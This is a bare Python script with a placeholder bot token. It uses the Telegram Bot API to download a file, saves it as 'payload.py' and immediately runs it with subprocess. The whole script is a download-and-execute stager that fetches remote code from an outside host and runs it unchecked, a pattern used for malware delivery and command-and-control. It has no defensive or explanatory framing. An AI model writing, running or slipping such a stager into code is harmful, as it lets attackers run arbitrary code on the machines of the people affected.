import subprocess
import requests

TOKEN = "5899001122:AAFakeTokenHere"
file_id = "BQACAgIAAxkBAAI"
meta = requests.get(f"https://api.telegram.org/bot{TOKEN}/getFile", params={"file_id": file_id}).json()
path = meta["result"]["file_path"]
blob = requests.get(f"https://api.telegram.org/file/bot{TOKEN}/{path}").content
open("payload.py", "wb").write(blob)
subprocess.Popen(["python3", "payload.py"])
